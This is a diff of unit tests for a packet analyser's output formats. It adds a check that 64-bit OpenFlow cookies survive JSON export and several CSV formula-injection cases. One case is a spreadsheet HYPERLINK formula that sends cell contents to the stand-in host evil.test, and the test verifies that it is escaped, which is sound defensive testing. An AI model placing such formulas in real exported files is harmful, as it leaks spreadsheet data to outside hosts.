@@ -16,8 +16,10 @@ import {
   type OutputOptions,
 } from '../../src/output/index.ts'
 import { fieldNamed } from '../../src/packet/fields.ts'
-import { framesOf, packetOf } from '../support/packets.ts'
+import { Packet } from '../../src/packet/packet.ts'
+import { bytesOf, framesOf, packetOf } from '../support/packets.ts'
 
+const rawIp = 101
 const usual: OutputOptions = {
   time: 'epoch',
   precision: 6,
@@ -240,6 +242,46 @@ describe('other formats', () => {
     expect(written(csvOutput, [get], { time: 'none' })).toMatch(
       /^number,time,source,destination,protocol,length,info\n10,,192\.0\.2\.1:\d+,192\.0\.2\.2:80,HTTP,142,GET \/ HTTP\/1\.1 \(example\.test\)\n$/,
     )
+  })
+
+  /** A frame of IPv4, TCP to this port and these bytes. */
+  const segment = (port: number, payload: Uint8Array) => {
+    const header = bytesOf(
+      '4500 0000 0001 0000 4006 0000 c0000201 c0000202 d000 0000 00000001 00000001 5018 ffff 0000 0000',
+    )
+    const bytes = Uint8Array.from([...header, ...payload])
+    new DataView(bytes.buffer).setUint16(2, bytes.length)
+    new DataView(bytes.buffer).setUint16(22, port)
+    return Packet.of(bytes, rawIp).frame
+  }
+
+  test.each([
+    ['=HYPERLINK("http://evil.test?x="&A1)', `"'=HYPERLINK(""http://evil.test?x=""&A1)"`],
+    ['@SUM(1+1)', "'@SUM(1+1)"],
+    ['+1+1', "'+1+1"],
+    ['-2+3', "'-2+3"],
+    ['-3', '-3'],
+    ['+49.5', '+49.5'],
+    ['1=2', '1=2'],
+  ])('CSV marks what a spreadsheet would take for a formula: %s', (agent, cell) => {
+    const request = new TextEncoder().encode(`GET / HTTP/1.1\r\nUser-Agent: ${agent}\r\n\r\n`)
+    const fields = [fieldNamed('http.user_agent')]
+    expect(written(csvOutput, [segment(80, request)], { fields })).toBe(`http.user_agent\n${cell}\n`)
+  })
+
+  test('JSON has numbers of 64 bits as text, which readers keep', () => {
+    const modification = bytesOf(`04 0e 0038 00000007 ffffffffffffffff 8000000000000001 00 00 0000 0000 0000
+      ffffffff ffffffff ffffffff 0000 0000 0001 0004 00000000`)
+    const frames = [segment(6653, modification)]
+    const fields = ['openflow_v4.flowmod.cookie', 'openflow_v4.flowmod.cookie_mask'].map(fieldNamed)
+    expect(JSON.parse(written(ndjsonOutput, frames, { fields }))).toEqual({
+      'openflow_v4.flowmod.cookie': ['18446744073709551615'],
+      'openflow_v4.flowmod.cookie_mask': ['9223372036854775809'],
+    })
+    expect(JSON.parse(written(ndjsonOutput, frames)).layers.at(-1).fields).toMatchObject({
+      cookie: '18446744073709551615',
+      cookieMask: '9223372036854775809',
+    })
   })
 
   test('a table has a row for each packet, up to a limit', async () => {
